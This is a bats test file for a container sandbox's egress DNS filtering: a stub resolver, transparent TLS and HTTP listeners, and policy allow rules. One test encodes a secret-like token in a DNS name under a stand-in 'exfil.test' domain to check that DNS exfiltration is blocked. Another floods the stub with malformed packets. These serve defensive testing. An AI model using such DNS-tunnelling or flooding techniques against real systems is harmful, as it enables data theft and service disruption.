#!/usr/bin/env bats
# network: {"allow": [...]} without the proxy variables: the egress
# helper's stub resolver on 127.0.0.1:53 gives every name a rule names
# 198.18.0.1, where its transparent listeners take TLS by its server name
# and plain HTTP by its Host header.  As in egress.bats the upstreams are
# the test's own on the host's loopback, and the helper reads the test's
# hosts file (up.test is 127.0.0.1, so it needs an address rule too) and
# the test's resolv.conf, both bound in a private mount namespace that
# corral runs in.  That resolv.conf names the test's own UDP listener
# (127.53.X.Y:53, an address of this run's): it records every query that
# reaches a name server.

load helpers
load upstreams

setup_file() {
	corral_setup_file
	UP="$BATS_FILE_TMPDIR/up"
	HTTP_PORT=$((30000 + RANDOM % 10000))
	HTTPS_PORT=$((HTTP_PORT + 1))
	upstreams_start "$UP" "$HTTP_PORT"
	# the helper's name server: records each query, answers none; at an
	# address no other run of this file on the machine has
	DNS_ADDR="127.53.$((RANDOM % 250 + 1)).$((RANDOM % 250 + 1))"
	python3 -c 'import socket, sys
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.bind((sys.argv[2], 53))
while True:
    d, a = u.recvfrom(2000)
    open(sys.argv[1], "ab").write(d + b"\n")' "$UP/dns.got" "$DNS_ADDR" \
		>"$UP/dns.log" 2>&1 3>&- &
	echo $! >"$UP/dns.pid"
	{ cat /etc/hosts; echo "127.0.0.1 up.test other.test"; } >"$UP/hosts"
	echo "nameserver $DNS_ADDR" >"$UP/resolv.conf"
	export UP HTTP_PORT HTTPS_PORT
}

teardown_file() {
	upstreams_stop "$UP" http.pid https.pid dns.pid
}

setup() {
	corral_setup
	POLICY="$BATS_TEST_TMPDIR/policy.json"
	: >"$UP/dns.got"
}

teardown() {
	corral_teardown
	[ ! -f "$BATS_TEST_TMPDIR/dns.pid" ] ||
		kill "$(cat "$BATS_TEST_TMPDIR/dns.pid")" 2>/dev/null
	return 0
}

# allow RULE...: the test's policy (and the test's CA as a host path the
# sandbox's /workspace may come from).
allow() {
	local rules
	rules="$(printf '"%s",' "$@")"
	printf '{"network": {"allow": [%s]}, "mounts": [{"source": "%s"}]}\n' \
		"${rules%,}" "$UP/ca" >"$POLICY"
}

# in_test_ns CMD...: CMD with the test's hosts file and resolv.conf (or
# $RESOLV) as the host's (a private mount namespace, gone with CMD).
in_test_ns() {
	unshare -m sh -c 'mount --bind "$0" /etc/hosts &&
		mount --bind "$1" /etc/resolv.conf && shift && exec "$@"' \
		"$UP/hosts" "${RESOLV:-$UP/resolv.conf}" "$@" </dev/null 3>&-
}

# sandboxed CMD...: corral sandbox under the policy, the test's CA in
# /workspace.
sandboxed() {
	run --separate-stderr in_test_ns "$CORRAL" --root "$ROOT" \
		--policy "$POLICY" sandbox --workspace "$UP/ca" -- "$@"
}

# py CODE: python3 inside the sandbox.
py() {
	sandboxed python3 -c "$1"
}

# create_with_policy: create $ID under the policy, stdio to files.
create_with_policy() {
	in_test_ns "$CORRAL" --root "$ROOT" --policy "$POLICY" create \
		--bundle "$BUNDLE" "$ID" >>"$BATS_TEST_TMPDIR/$ID.out" \
		2>>"$BATS_TEST_TMPDIR/$ID.err" ||
		fail "create: $(cat "$BATS_TEST_TMPDIR/$ID.err")"
}

# The DNS query of type TYPE for NAME, sent to the stub; the answer's
# rcode and answer count, or "none".
DNS_ASK='import socket, struct, sys
def ask(name, qtype, server=("127.0.0.1", 53)):
    q = struct.pack(">HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    q += b"\0" + struct.pack(">HH", qtype, 1)
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.settimeout(2)
    u.sendto(q, server)
    try:
        a = u.recv(2000)
    except socket.timeout:
        return "none"
    return "rcode=%d answers=%d" % (a[3] & 15, struct.unpack(">H", a[6:8])[0])
'

@test "egress dns: curl --noproxy '*' over HTTPS to an allowed name works through the transparent listener" {
	allow up.test:"$HTTPS_PORT" "127.0.0.1:$HTTPS_PORT"
	sandboxed curl -sS --noproxy '*' --cacert /workspace/cert.pem \
		"https://up.test:$HTTPS_PORT/"
	assert_success
	assert_output hello-from-upstream
}

@test "egress dns: curl --noproxy '*' over plain HTTP to an allowed name works" {
	allow up.test:"$HTTP_PORT" "127.0.0.1:$HTTP_PORT"
	sandboxed curl -sS --noproxy '*' "http://up.test:$HTTP_PORT/"
	assert_success
	assert_output hello-from-upstream
	run grep -c '"GET / HTTP/1.1" 200' "$UP/http.log"
	[ "$output" -ge 1 ] || fail "the upstream logged no request"
}

@test "egress dns: a truncated answer over UDP is asked again over TCP, and the name resolves" {
	local addr="127.54.$((RANDOM % 250 + 1)).$((RANDOM % 250 + 1))"
	# big.test's A over UDP: truncated, no record; over TCP: 127.0.0.1;
	# every other question: no record.  Each query logged with its way.
	python3 - "$addr" "$BATS_TEST_TMPDIR/dns.got" >"$BATS_TEST_TMPDIR/dns.log" \
		2>&1 3>&- <<-'PY' &
		import socket, struct, sys, threading
		addr, log = sys.argv[1], sys.argv[2]
		def answer(q, way):
		    name, i = [], 12
		    while q[i]:
		        name.append(q[i + 1:i + 1 + q[i]].decode()); i += 1 + q[i]
		    qtype = struct.unpack(">H", q[i + 1:i + 3])[0]
		    name = ".".join(name).lower()
		    open(log, "a").write("%s %s %d\n" % (way, name, qtype))
		    head, question = q[:2], q[12:i + 5]
		    if name == "big.test" and qtype == 1 and way == "udp":
		        return head + struct.pack(">HHHHH", 0x8380, 1, 0, 0, 0) + question
		    if name == "big.test" and qtype == 1:
		        rr = b"\xc0\x0c" + struct.pack(">HHIH", 1, 1, 30, 4) + bytes([127, 0, 0, 1])
		        return head + struct.pack(">HHHHH", 0x8180, 1, 1, 0, 0) + question + rr
		    return head + struct.pack(">HHHHH", 0x8180, 1, 0, 0, 0) + question
		u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
		u.bind((addr, 53))
		t = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
		t.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
		t.bind((addr, 53)); t.listen(8)
		def tcp():
		    while True:
		        c, _ = t.accept()
		        n = struct.unpack(">H", c.recv(2, socket.MSG_WAITALL))[0]
		        a = answer(c.recv(n, socket.MSG_WAITALL), "tcp")
		        c.sendall(struct.pack(">H", len(a)) + a); c.close()
		threading.Thread(target=tcp, daemon=True).start()
		while True:
		    q, peer = u.recvfrom(2000)
		    u.sendto(answer(q, "udp"), peer)
	PY
	echo $! >"$BATS_TEST_TMPDIR/dns.pid"
	for _ in $(seq 50); do nc -z "$addr" 53 2>/dev/null && break; sleep 0.1; done
	echo "nameserver $addr" >"$BATS_TEST_TMPDIR/resolv.conf"
	RESOLV="$BATS_TEST_TMPDIR/resolv.conf"
	allow big.test:"$HTTP_PORT" "127.0.0.1:$HTTP_PORT"
	sandboxed busybox wget -q -O- "http://big.test:$HTTP_PORT/"
	assert_success
	assert_output hello-from-upstream
	run grep -c '^udp big.test 1$' "$BATS_TEST_TMPDIR/dns.got"
	[ "$output" -ge 1 ] || fail "no UDP query: $(cat "$BATS_TEST_TMPDIR/dns.got")"
	run grep -c '^tcp big.test 1$' "$BATS_TEST_TMPDIR/dns.got"
	[ "$output" -ge 1 ] || fail "no TCP query: $(cat "$BATS_TEST_TMPDIR/dns.got")"
}

@test "egress dns: getaddrinfo gives an allowed name 198.18.0.1 and no IPv6 address; another name does not exist" {
	allow up.test:"$HTTPS_PORT" "**.github.com"
	py "import socket
print(sorted({a[4][0] for a in socket.getaddrinfo('up.test', 443)}))
print(sorted({a[4][0] for a in socket.getaddrinfo('api.github.com', 443)}))
try:
    socket.getaddrinfo('up.test', 443, socket.AF_INET6); print('an IPv6 address')
except socket.gaierror as e: print('v6', e.errno != 0)
try:
    socket.getaddrinfo('nowhere.test', 443); print('resolved')
except socket.gaierror as e: print('nowhere', e.errno == socket.EAI_NONAME)"
	assert_success
	assert_line --index 0 "['198.18.0.1']"
	assert_line --index 1 "['198.18.0.1']"
	assert_line --index 2 "v6 True"
	assert_line --index 3 "nowhere True"
}

@test "egress dns: the stub forwards nothing: a TXT query for a data-carrying name is NXDOMAIN and reaches no server" {
	allow up.test:"$HTTPS_PORT" "127.0.0.1:$HTTPS_PORT" viaproxy.test:"$HTTPS_PORT"
	py "$DNS_ASK
print(ask('c2VjcmV0LXRva2Vu.exfil.test', 16))
print(ask('up.test', 16))
print(ask('up.test', 1))
print(ask('up.test', 28))"
	assert_success
	assert_line --index 0 "rcode=3 answers=0"
	assert_line --index 1 "rcode=0 answers=0"
	assert_line --index 2 "rcode=0 answers=1"
	assert_line --index 3 "rcode=0 answers=0"
	sleep 0.3
	[ ! -s "$UP/dns.got" ] || fail "a name server got: $(cat -v "$UP/dns.got")"
	# the listener is the helper's name server: the proxy asks it for a
	# name the hosts file does not have
	sandboxed curl -s -o /dev/null "https://viaproxy.test:$HTTPS_PORT/"
	for _ in $(seq 30); do [ -s "$UP/dns.got" ] && break; sleep 0.1; done
	run grep -c viaproxy "$UP/dns.got"
	[ "$output" -ge 1 ] || fail "the helper's name server heard nothing"
	run grep -c exfil "$UP/dns.got"
	assert_output 0
}

@test "egress dns: malformed packets and responses get no answer, another opcode NOTIMP, and the stub still answers" {
	allow up.test:"$HTTPS_PORT"
	py "$DNS_ASK
import os
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.settimeout(0.5)
def raw(data):
    u.sendto(data, ('127.0.0.1', 53))
    try: return u.recv(2000)
    except socket.timeout: return None
print(raw(b''), raw(b'\x12'), raw(os.urandom(11)))
q = struct.pack('>HHHHHH', 7, 0x0100, 1, 0, 0, 0) + b'\x02up\x04test\x00\x00\x01\x00\x01'
print(raw(bytes([q[0], q[1], q[2] | 0x80]) + q[3:]))
print(raw(q[:12] + b'\xc0\x0c\x00\x01\x00\x01'))
print(raw(q[:-1]))
a = raw(bytes([q[0], q[1], 2 << 3]) + q[3:])
print(a[3] & 15, a[5])
for _ in range(300): u.sendto(os.urandom(40), ('127.0.0.1', 53))
# a flood faster than the stub drains it overflows the socket's buffer,
# and the kernel drops what arrives then: a resolver asks again
import time
time.sleep(0.3)
r = 'none'
for _ in range(3):
    r = ask('up.test', 1)
    if r != 'none': break
print(r)"
	assert_success
	assert_line --index 0 "None None None"
	assert_line --index 1 None
	assert_line --index 2 None
	assert_line --index 3 None
	assert_line --index 4 "4 0"
	assert_line --index 5 "rcode=0 answers=1"
}

@test "egress dns: on 198.18.0.1 a TLS server name no rule names, no server name, and a Host no rule names are refused" {
	allow up.test:"$HTTPS_PORT" "127.0.0.1:$HTTPS_PORT" up.test:"$HTTP_PORT" "127.0.0.1:$HTTP_PORT"
	py "import socket, ssl
def tls(port, sni):
    s = socket.create_connection(('198.18.0.1', port), timeout=5)
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
    try:
        t = ctx.wrap_socket(s, server_hostname=sni)
        t.sendall(b'GET / HTTP/1.0\r\n\r\n')
        return 'open:' + t.recv(100).decode(errors='replace')[:12]
    except (ssl.SSLError, OSError):
        return 'closed'
print(tls($HTTPS_PORT, 'up.test'), tls($HTTPS_PORT, 'other.test'),
      tls($HTTPS_PORT, None), tls(443, 'other.test'), tls(443, 'up.test'))
def http(port, head):
    s = socket.create_connection(('198.18.0.1', port), timeout=5)
    s.sendall(head)
    return s.recv(300).decode(errors='replace').split('\r\n')
print(http($HTTP_PORT, b'GET / HTTP/1.1\r\nHost: up.test:$HTTP_PORT\r\n\r\n')[0])
r = http($HTTP_PORT, b'GET / HTTP/1.1\r\nHost: other.test:$HTTP_PORT\r\n\r\n')
print(r[0]); print(r[-1])
print(http($HTTP_PORT, b'GET / HTTP/1.1\r\nUser-Agent: x\r\n\r\n')[0])
print(http($HTTP_PORT, b'GET / HTTP/1.1\r\nHost: up.test:1\r\n\r\n')[0])
print(http($HTTP_PORT, b'GET / HTTP/1.1\r\nHost: 127.0.0.1:$HTTP_PORT\r\n\r\n')[0])"
	assert_success
	assert_line --index 0 "open:HTTP/1.0 200 closed closed closed closed"
	assert_line --index 1 "HTTP/1.0 200 OK"
	assert_line --index 2 "HTTP/1.1 403 Forbidden"
	assert_line --index 3 "corral: egress to other.test:$HTTP_PORT refused: no rule of the host policy's network.allow names this host and port"
	assert_line --index 4 "HTTP/1.1 403 Forbidden"
	assert_line --index 5 "HTTP/1.1 400 Bad Request"
	# an address as the host only as an address rule names it
	assert_line --index 6 "HTTP/1.0 200 OK"
}

@test "egress dns: a bundle's resolv.conf (a link in the image, an engine's bind) is corral's, and the log has the dns line" {
	allow up.test:"$HTTP_PORT" "127.0.0.1:$HTTP_PORT"
	ln -s ../run/systemd/resolve/stub-resolv.conf "$ROOTFS/etc/resolv.conf"
	ln -s busybox "$ROOTFS/bin/nslookup"
	ln -s busybox "$ROOTFS/bin/wget"
	echo "nameserver 10.9.9.9" >"$BUNDLE/resolv.conf"
	update_config '.mounts += [{"destination": "/etc/resolv.conf",
		"type": "bind", "source": $src, "options": ["rbind", "ro"]}]' \
		--arg src "$BUNDLE/resolv.conf"
	set_args sh -c "unset http_proxy HTTP_PROXY; cat /etc/resolv.conf; nslookup up.test 2>&1;
		nslookup nowhere.test 2>&1 | grep -q NXDOMAIN && echo nowhere-nx;
		wget -q -O- http://up.test:$HTTP_PORT/; sleep 30"
	run corral --policy "$POLICY" explain --bundle "$BUNDLE"
	assert_success
	assert_line --partial "stub resolver at 127.0.0.1:53"
	assert_line --partial "198.18.0.1"
	assert_line --partial "/etc/resolv.conf names corral's stub resolver"
	create_with_policy
	corral start "$ID"
	local out="$BATS_TEST_TMPDIR/$ID.out" dir="$ROOT/$ID"
	for _ in $(seq 50); do
		grep -q hello-from-upstream "$out" 2>/dev/null && break
		sleep 0.1
	done
	run cat "$out"
	assert_line --index 0 "nameserver 127.0.0.1"
	assert_line --regexp '^Address:? +(1: )?198\.18\.0\.1$'
	assert_line nowhere-nx
	assert_line hello-from-upstream
	# the image's link and the engine's file are as they were
	[ -L "$ROOTFS/etc/resolv.conf" ] || fail "the image's link was replaced"
	[ ! -e "$ROOTFS/run" ] || fail "the link was followed"
	run cat "$BUNDLE/resolv.conf"
	assert_output "nameserver 10.9.9.9"
	run python3 -c "import json, sys
for l in open(sys.argv[1]):
    d = json.loads(l)
    if d['kind'] == 'dns': print(d['kind'], d['method'], d['name'], d['verdict'])
    else: print(d['kind'], d['method'], d['name'], d['port'], d['verdict'])" "$dir/egress.log"
	assert_line "dns A nowhere.test deny"
	assert_line "transparent GET up.test $HTTP_PORT allow"
	corral kill "$ID" KILL
	corral delete --force "$ID"
}

@test "egress dns: a rootfs without /etc starts, says so in the log, and gets no resolv.conf" {
	allow up.test:"$HTTP_PORT" "127.0.0.1:$HTTP_PORT"
	rm -rf "$ROOTFS/etc"
	set_args sh -c 'ls /etc 2>&1 || echo no-etc'
	local log="$BATS_TEST_TMPDIR/runtime.log"
	run --separate-stderr in_test_ns "$CORRAL" --root "$ROOT" --log "$log" \
		--policy "$POLICY" run --bundle "$BUNDLE" "$ID"
	assert_success
	assert_line no-etc
	run grep -c "the rootfs has no /etc: no resolv.conf for the stub resolver" "$log"
	assert_output 1
	[ ! -e "$ROOTFS/etc" ] || fail "the bundle's rootfs got an /etc"
}
